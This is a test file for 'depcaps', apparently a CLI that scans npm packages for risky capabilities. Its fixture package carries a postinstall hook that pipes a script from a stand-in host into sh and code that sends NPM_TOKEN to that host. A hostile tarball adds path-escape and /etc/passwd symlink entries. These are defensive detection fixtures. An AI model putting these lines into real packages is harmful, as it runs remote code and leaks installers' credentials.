/**
 * End-to-end: the real CLI binary on tarballs built at test time, on a directory, on a single file, and
 * on `name@version` through a real registry on 127.0.0.1 (the real HTTP path, not a mock).
 */
import { writeFileSync, mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ScanReport } from '../../src/contract/index.js';
import { startRegistry, type LocalRegistry } from '../helpers/local-registry.js';
import { makePackageTarball, makeTgz, truncate } from '../helpers/make-tarball.js';
import { parseJson, runCli } from '../helpers/run-cli.js';
import { listTree, makeTmpEnv, type TmpEnv } from '../helpers/tmp-env.js';

const EVIL_FILES: Record<string, string> = {
  'package.json': JSON.stringify(
    { name: 'evil-pkg', version: '1.0.0', main: 'lib/index.js', scripts: { test: 'vitest', postinstall: 'curl -s https://x.example/p.sh | sh' } },
    null,
    2,
  ),
  'lib/index.js': [
    "const { exec: run } = require('node:child_process');",
    "const https = require('https');",
    'module.exports = function go(cmd) {',
    "  https.get('https://x.example/?t=' + process.env.NPM_TOKEN);",
    '  return run(cmd);',
    '};',
  ].join('\n'),
  'lib/util.js': "function fetch(key) { return cache[key]; }\nmodule.exports = (k) => fetch(k) || /x/.exec(k);\n",
  'test/helper.js': "const fs = require('fs');\nfs.writeFileSync('/tmp/x', 'y');\n",
  'types/index.d.ts': "declare function fetch(url: string): Promise<unknown>;\nexport = fetch;\n",
  'README.md': "Run `require('child_process').exec('x')` at your own risk.\n",
};

let tmp: TmpEnv;
let registry: LocalRegistry;

beforeAll(async () => {
  tmp = makeTmpEnv();
  registry = await startRegistry({
    packages: {
      'evil-pkg': { versions: { '1.0.0': { files: EVIL_FILES } } },
      'plain-pkg': { versions: { '2.0.0': { files: { 'index.js': 'module.exports = (a, b) => a + b;\n' } } } },
    },
  });
});

afterAll(async () => {
  await registry.close();
  tmp.cleanup();
});

function write(name: string, data: Buffer | string): string {
  const file = join(tmp.project, name);
  writeFileSync(file, data);
  return file;
}

/** The evil package's expected findings, in report order. */
const EXPECTED = [
  { capability: 'shell', api: 'child_process', file: 'lib/index.js', line: 1, column: 23, excerpt: "const { exec: run } = require('node:child_process');", confidence: 'high', runs: 'import' },
  { capability: 'network', api: 'https', file: 'lib/index.js', line: 2, column: 15, excerpt: "const https = require('https');", confidence: 'high', runs: 'import' },
  { capability: 'network', api: 'https.get', file: 'lib/index.js', line: 4, column: 3, confidence: 'high', runs: 'call' },
  { capability: 'env', api: 'process.env.NPM_TOKEN', file: 'lib/index.js', line: 4, column: 39, confidence: 'high', runs: 'call' },
  { capability: 'shell', api: 'child_process.exec', file: 'lib/index.js', line: 5, column: 10, excerpt: 'return run(cmd);', confidence: 'high', runs: 'call' },
  { capability: 'install-script', api: 'postinstall: curl, pipe to shell', file: 'package.json', line: 7, column: 5, confidence: 'high', runs: 'install' },
  { capability: 'filesystem', api: 'fs', file: 'test/helper.js', line: 1, column: 12, confidence: 'high', runs: 'unreached' },
  { capability: 'filesystem', api: 'fs.writeFileSync', file: 'test/helper.js', line: 2, column: 1, confidence: 'high', runs: 'unreached' },
];

function checkEvilReport(report: ScanReport): void {
  expect(report.schemaVersion).toBe(1);
  expect(report.tool.name).toBe('depcaps');
  expect(report.tool.version).toMatch(/^\d+\.\d+\.\d+/);
  expect(report.tool.catalogVersion).toMatch(/^[0-9a-f]{16}$/);
  expect(report.package.name).toBe('evil-pkg');
  expect(report.package.version).toBe('1.0.0');
  expect(report.status).toBe('ok');
  expect(report.capabilities).toEqual(['env', 'filesystem', 'install-script', 'network', 'shell']);
  expect(report.findings).toHaveLength(EXPECTED.length);
  EXPECTED.forEach((want, i) => expect(report.findings[i]).toMatchObject(want));
  for (const f of report.findings) expect(f.excerpt.length).toBeGreaterThan(0);
  expect(report.errors).toEqual([]);
  expect(report.stats.files).toBe(Object.keys(EVIL_FILES).length);
  expect(report.stats.cached).toBe(false);
}

describe('depcaps scan (end-to-end)', () => {
  it('scans a tarball built at test time, field by field', async () => {
    const tgz = write('evil.tgz', makePackageTarball(EVIL_FILES));
    const before = listTree(tmp.project);
    const r = await runCli(['scan', tgz, '--json'], { env: tmp.env, cwd: tmp.project });
    expect(r.code, r.stderr).toBe(0);
    checkEvilReport(parseJson<ScanReport>(r));
    expect(listTree(tmp.project)).toEqual(before);
  });

  it('scans name@version through a real registry on 127.0.0.1, with the registry integrity', async () => {
    const r = await runCli(['scan', 'evil-pkg@1.0.0', '--json', '--no-cache', '--registry', registry.url], { env: tmp.env, cwd: tmp.project });
    expect(r.code, r.stderr).toBe(0);
    const report = parseJson<ScanReport>(r);
    checkEvilReport(report);
    expect(report.package.integrity).toBe(registry.integrity('evil-pkg', '1.0.0'));
    expect(registry.requests('/evil-pkg/-/evil-pkg-1.0.0.tgz').length).toBeGreaterThan(0);
    // The tarball streamed through: nothing in HOME, and no tarball cache (--no-cache: no database either).
    expect(listTree(tmp.home)).toEqual([]);
    expect(listTree(tmp.cacheDir).filter((p) => !p.startsWith('cache.db'))).toEqual([]);
  });

  it('a repeat scan of the same bytes is served from the cache: nothing parsed, same findings', async () => {
    const tgz = write('evil-again.tgz', makePackageTarball(EVIL_FILES));
    const first = parseJson<ScanReport>(await runCli(['scan', tgz, '--json'], { env: tmp.env, cwd: tmp.project }));
    const again = await runCli(['scan', tgz, '--json'], { env: tmp.env, cwd: tmp.project });
    expect(again.code, again.stderr).toBe(0);
    const second = parseJson<ScanReport>(again);
    expect(second.stats).toMatchObject({ cached: true, parsedFiles: 0, reusedFiles: 0 });
    expect(second.findings).toEqual(first.findings);
    expect(second.capabilities).toEqual(first.capabilities);
    const text = await runCli(['scan', tgz], { env: tmp.env, cwd: tmp.project });
    expect(text.stdout.trimEnd().split('\n').at(-1)).toMatch(/ms \(cached\)$/);
  });

  it('prints grouped text with a one-line summary by default', async () => {
    const tgz = write('evil-text.tgz', makePackageTarball(EVIL_FILES));
    const r = await runCli(['scan', tgz, '--no-cache'], { env: tmp.env, cwd: tmp.project });
    expect(r.code, r.stderr).toBe(0);
    const lines = r.stdout.trimEnd().split('\n');
    expect(lines[0]).toContain('evil-pkg@1.0.0');
    expect(r.stdout).toMatch(/^shell {2}critical · 1 finding$/m);
    expect(r.stdout).toMatch(/child_process\.exec\s+lib\/index\.js:5:10\s+return run\(cmd\);/);
    // Sections by when the code runs, install first.
    const sections = lines.filter((l) => /^(RUNS AT|RUNS WHEN|UNREACHED)/.test(l)).map((l) => l.split('  ')[0]);
    expect(sections).toEqual(['RUNS AT INSTALL', 'RUNS AT IMPORT', 'RUNS WHEN CALLED', 'UNREACHED']);
    expect(lines.at(-1)).toMatch(/^evil-pkg@1\.0\.0: shell, install-script, network, env, filesystem · 8 findings \(1 install, 2 import, 3 call, 2 unreached\) in 3 of 6 files · runs code at install · .* · 0 errors · \d+ ms$/);
    expect(r.stdout).not.toContain('\u001b['); // not a TTY: no colours
  });

  it('scans a directory and a single file', async () => {
    const dir = join(tmp.project, 'dir-pkg');
    mkdirSync(join(dir, 'node_modules', 'dep'), { recursive: true });
    writeFileSync(join(dir, 'package.json'), '{"name":"dir-pkg","version":"0.1.0"}');
    writeFileSync(join(dir, 'index.js'), "import { spawn } from 'node:child_process';\nspawn('ls');\n");
    writeFileSync(join(dir, 'node_modules', 'dep', 'index.js'), "require('net')");
    const d = parseJson<ScanReport>(await runCli(['scan', dir, '--json'], { env: tmp.env, cwd: tmp.project }));
    expect(d.package).toMatchObject({ name: 'dir-pkg', version: '0.1.0', source: 'directory' });
    expect(d.capabilities).toEqual(['shell']);
    expect(d.findings.map((f) => `${f.file}:${f.line}:${f.api}`)).toEqual(['index.js:1:child_process', 'index.js:2:child_process.spawn']);

    const file = write('suspicious.js', "const k = 'ZXZhbA==';\nglobalThis[atob(k)]('1+1');\n");
    const s = parseJson<ScanReport>(await runCli(['scan', file, '--json'], { env: tmp.env, cwd: tmp.project }));
    expect(s.package.source).toBe('file');
    expect(s.findings).toMatchObject([{ capability: 'eval', api: 'eval', file: 'suspicious.js', line: 2, column: 1, confidence: 'medium' }]);
  });

  it('unknown package: exit 2 with one clear line and a hint', async () => {
    const r = await runCli(['scan', 'no-such-pkg@1.0.0', '--registry', registry.url], { env: tmp.env, cwd: tmp.project });
    expect(r.code).toBe(2);
    expect(r.stdout).toBe('');
    const lines = r.stderr.trimEnd().split('\n');
    expect(lines[0]).toMatch(/^depcaps: no-such-pkg@1\.0\.0 was not found/);
    expect(lines.some((l) => l.startsWith('hint: '))).toBe(true);
    expect(r.stderr).not.toMatch(/\n\s+at /); // no stack trace
  });

  it('unknown version: exit 2 naming the closest versions', async () => {
    const r = await runCli(['scan', 'plain-pkg@3.0.0', '--registry', registry.url], { env: tmp.env, cwd: tmp.project });
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('plain-pkg@3.0.0');
    expect(r.stderr).toContain('2.0.0');
  });

  it('registry down: exit 3', async () => {
    const r = await runCli(['scan', 'plain-pkg@2.0.0', '--registry', 'http://127.0.0.1:9/'], {
      env: { ...tmp.env, DEPCAPS_FETCH_RETRIES: '0', DEPCAPS_FETCH_TIMEOUT_MS: '2000' },
      cwd: tmp.project,
    });
    expect(r.code).toBe(3);
    expect(r.stderr.trimEnd().split('\n')[0]).toMatch(/^depcaps: .*127\.0\.0\.1:9/);
  });

  it('usage errors exit 2', async () => {
    expect((await runCli(['scan'], { env: tmp.env, cwd: tmp.project })).code).toBe(2);
    expect((await runCli(['frobnicate'], { env: tmp.env, cwd: tmp.project })).code).toBe(2);
    const bad = await runCli(['scan', 'x', '--max-bytes', 'lots'], { env: tmp.env, cwd: tmp.project });
    expect(bad.code).toBe(2);
    expect(bad.stderr).toContain('--max-bytes');
    expect((await runCli(['scan', '../../etc@1.0.0'], { env: tmp.env, cwd: tmp.project })).code).toBe(2);
  });

  it('--output writes the report atomically; an unwritable path is exit 2 and leaves nothing', async () => {
    const tgz = write('evil-out.tgz', makePackageTarball(EVIL_FILES));
    const out = join(tmp.project, 'report.json');
    const r = await runCli(['scan', tgz, '--json', '--no-cache', '--output', out], { env: tmp.env, cwd: tmp.project });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toBe('');
    const { readFileSync } = await import('node:fs');
    checkEvilReport(JSON.parse(readFileSync(out, 'utf8')) as ScanReport);
    const bad = await runCli(['scan', tgz, '--json', '--output', join(tmp.project, 'missing-dir', 'r.json')], { env: tmp.env, cwd: tmp.project });
    expect(bad.code).toBe(2);
    expect(bad.stderr).toMatch(/^depcaps: could not write report to /);
    expect(listTree(tmp.project).filter((p) => p.endsWith('.tmp'))).toEqual([]);
  });
});

describe('depcaps scan: bad input (RELIABILITY items 1–20)', () => {
  const GOOD = "require('net').connect(80);\n";

  it('truncated gzip and non-gzip bytes: exit 2, never "no capabilities"', async () => {
    const truncated = write('truncated.tgz', truncate(makePackageTarball(EVIL_FILES), 0.5));
    const t = await runCli(['scan', truncated, '--json'], { env: tmp.env, cwd: tmp.project });
    expect(t.code).toBe(2);
    expect(t.stdout).toBe('');
    expect(t.stderr).toMatch(/^depcaps: .*truncated/);
    const html = write('html.tgz', '<html><body>Service Unavailable</body></html>');
    const h = await runCli(['scan', html, '--json'], { env: tmp.env, cwd: tmp.project });
    expect(h.code).toBe(2);
    expect(h.stderr.split('\n')[0]).toMatch(/^depcaps: .*html\.tgz/);
    const zeros = write('zeros.tgz', Buffer.alloc(1024));
    expect((await runCli(['scan', zeros], { env: tmp.env, cwd: tmp.project })).code).toBe(2);
  });

  it('a hostile package: every bad file is reported, the good file is still analysed', async () => {
    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(64), Buffer.from('random')]);
    const badUtf8 = Buffer.concat([Buffer.from("const s = '"), Buffer.from([0xff, 0xfe, 0xc3]), Buffer.from("';\nrequire('dgram').createSocket('udp4');\n")]);
    const tgz = write(
      'hostile.tgz',
      makeTgz([
        { path: 'package/package.json', data: '{"name":"hostile","version":"1.0.0",}' },
        { path: 'package/good.js', data: GOOD },
        { path: 'package/../evil.js', data: "require('child_process').exec('id')" },
        { path: 'package/link.js', type: 'SymbolicLink', linkpath: '../../../../etc/passwd' },
        { path: 'package/deep.js', data: `x = ${'('.repeat(10_000)}1${')'.repeat(10_000)};\nfetch('https://x.example');\n` },
        { path: 'package/enc.js', data: badUtf8 },
        { path: 'package/bin.js', data: elf },
        { path: 'package/broken.js', data: "require('child_process').exec(x)\nfunction (\n" },
      ]),
    );
    const r = await runCli(['scan', tgz, '--json'], { env: tmp.env, cwd: tmp.project, timeoutMs: 60_000 });
    expect(r.code, r.stderr).toBe(0);
    const report = parseJson<ScanReport>(r);
    expect(report.status).toBe('partial');
    const at = (file: string) => report.findings.filter((f) => f.file === file).map((f) => `${f.capability}:${f.api}:${f.line}`);
    expect(at('good.js')).toEqual(['network:net:1', 'network:net.connect:1']);
    expect(at('__escaped__/evil.js')).toEqual(['shell:child_process:1', 'shell:child_process.exec:1']);
    expect(at('deep.js')).toEqual(['network:fetch:2']);
    expect(at('enc.js')).toEqual(['network:dgram:2', 'network:dgram.createSocket:2']);
    expect(at('bin.js')).toEqual(['native:ELF binary:1']);
    expect(report.findings.filter((f) => f.file === 'broken.js')).toMatchObject([{ capability: 'shell', line: 1, confidence: 'low' }]);
    const kinds = report.anomalies.map((a) => `${a.kind}:${a.file}`);
    expect(kinds).toEqual(
      expect.arrayContaining(['invalid-manifest:package.json', 'bad-encoding:enc.js', expect.stringMatching(/^path-escape:/), expect.stringMatching(/^link:.*link\.js$/)]),
    );
    // broken.js does not compile in V8 either: Node could not run it, so it is data (its lexical findings stay).
    expect(kinds).toContain('not-code:broken.js');
    const errors = Object.fromEntries(report.errors.map((e) => [e.file, e.reason]));
    expect(errors).toEqual({ 'bin.js': 'binary' });
    // The manifest is invalid JSON, so the name falls back to the tarball's file name.
    expect(report.package.name).toBe('hostile');
    // One warning line per file that was not fully analysed, naming the package and the file.
    const warnings = r.stderr.trimEnd().split('\n');
    expect(warnings).toHaveLength(1);
    expect(warnings[0]).toMatch(/^depcaps: warning: hostile: bin\.js: /);
  });

  it('missing package.json: an anomaly, and the files are still analysed', async () => {
    const tgz = write('nomanifest.tgz', makeTgz([{ path: 'package/index.js', data: GOOD }]));
    const report = parseJson<ScanReport>(await runCli(['scan', tgz, '--json'], { env: tmp.env, cwd: tmp.project }));
    expect(report.anomalies.map((a) => a.kind)).toContain('invalid-manifest');
    expect(report.capabilities).toEqual(['network']);
  });

  it('a file over --max-file-bytes is listed in errors with its lexical findings, the rest is analysed', async () => {
    const tgz = write('big.tgz', makePackageTarball({ 'package.json': '{"name":"big","version":"1.0.0"}', 'big.js': `${' '.repeat(2 * 1024 * 1024)}require('net')`, 'good.js': GOOD }));
    const r = await runCli(['scan', tgz, '--json', '--max-file-bytes', '1MiB'], { env: tmp.env, cwd: tmp.project });
    expect(r.code, r.stderr).toBe(0);
    const report = parseJson<ScanReport>(r);
    expect(report.status).toBe('partial');
    expect(report.errors).toMatchObject([{ file: 'big.js', reason: 'file-too-large' }]);
    expect(report.errors[0]?.message).toContain('lexical scan only');
    expect(report.findings.map((f) => [f.file, f.capability, f.confidence])).toEqual([
      ['big.js', 'network', 'low'],
      ['good.js', expect.any(String), expect.any(String)],
      ['good.js', expect.any(String), expect.any(String)],
    ]);
    expect(report.findings[0]).toMatchObject({ api: 'net', line: 1, column: 2 * 1024 * 1024 + 1 });
  });

  it('a 20 MB single-line minified file is fully analysed', async () => {
    const chunk = 'function a(b,c){var d=b.x(c);return d?c+1:b.y(d)}';
    const body = chunk.repeat(Math.ceil((20 * 1024 * 1024) / chunk.length));
    const tgz = write('minified.tgz', makePackageTarball({ 'package.json': '{"name":"min","version":"1.0.0"}', 'dist/min.js': `${body};require("child_process").spawn("sh")` }));
    const r = await runCli(['scan', tgz, '--json'], { env: tmp.env, cwd: tmp.project, timeoutMs: 170_000 });
    expect(r.code, r.stderr).toBe(0);
    const report = parseJson<ScanReport>(r);
    expect(report.status).toBe('ok');
    expect(report.findings).toMatchObject([
      { capability: 'shell', api: 'child_process', file: 'dist/min.js', line: 1, column: body.length + 2, confidence: 'high' },
      { capability: 'shell', api: 'child_process.spawn', file: 'dist/min.js', line: 1, column: body.length + 2 },
    ]);
    expect(report.findings[0]!.excerpt.length).toBeLessThanOrEqual(162);
  }, 180_000);
});
